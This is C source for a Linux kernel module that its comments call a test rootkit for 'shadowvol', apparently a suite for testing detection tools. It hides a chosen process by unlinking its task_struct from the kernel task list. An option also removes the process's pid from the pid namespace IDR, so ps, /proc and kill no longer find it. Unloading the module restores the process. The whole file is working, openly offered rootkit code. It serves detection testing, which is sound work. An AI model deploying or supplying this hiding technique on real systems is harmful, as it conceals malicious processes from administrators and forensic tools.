// SPDX-License-Identifier: GPL-2.0
/* Test rootkit (DKOM): hide the process pid= by unlinking its task_struct
 * from the task list (list_del_rcu on task->tasks), the classic technique.
 * The task stays in the pid IDR and keeps running; for_each_process() (and
 * so pslist-style tools) no longer sees it, while /proc, which iterates the
 * pid IDR, still does.
 *
 * With pidhash=1 its pid number is also removed from its pid namespace's
 * IDR (what the kernel calls the pid hash): /proc, ps and kill no longer
 * find it either; its struct pid stays attached to the task.
 *
 * After a grace period the unlinked node is made a self-loop, so that the
 * kernel's own list_del_rcu() at exit is harmless (so is its idr_remove()
 * of an absent id). rmmod relinks the task and re-registers its pid if it
 * is still alive. tasklist_lock is not exported: this is racy against a
 * concurrent fork/exit, as real rootkits are; use it in a quiet test VM. */
#include <linux/idr.h>
#include <linux/module.h>
#include <linux/pid_namespace.h>
#include <linux/moduleparam.h>
#include <linux/pid.h>
#include <linux/rculist.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>

static int pid;
module_param(pid, int, 0444);
MODULE_PARM_DESC(pid, "pid of the process to hide");

static bool pidhash;
module_param(pidhash, bool, 0444);
MODULE_PARM_DESC(pidhash, "also remove the pid from the pid namespace's IDR");

static struct task_struct *hidden;
static struct pid *hidden_pid;

static int __init rk_hideproc_init(void)
{
	struct pid *p = find_get_pid(pid);

	if (!p)
		return -ESRCH;
	hidden = get_pid_task(p, PIDTYPE_PID);
	put_pid(p);
	if (!hidden)
		return -ESRCH;
	list_del_rcu(&hidden->tasks);
	if (pidhash) {
		hidden_pid = get_pid(task_pid(hidden));
		idr_remove(&task_active_pid_ns(hidden)->idr, pid);
	}
	synchronize_rcu();
	INIT_LIST_HEAD(&hidden->tasks);
	pr_info("rk_hideproc: hid pid %d (%s)%s\n", pid, hidden->comm, pidhash ? " from the pid hash too" : "");
	return 0;
}

static void __exit rk_hideproc_exit(void)
{
	if (pid_alive(hidden) && list_empty(&hidden->tasks))
		list_add_tail_rcu(&hidden->tasks, &init_task.tasks);
	if (hidden_pid) {
		if (pid_alive(hidden))
			idr_alloc(&task_active_pid_ns(hidden)->idr, hidden_pid, pid, pid + 1, GFP_KERNEL);
		put_pid(hidden_pid);
	}
	put_task_struct(hidden);
	pr_info("rk_hideproc: restored pid %d\n", pid);
}

module_init(rk_hideproc_init);
module_exit(rk_hideproc_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("shadowvol test rootkit: unlink a task from the task list");
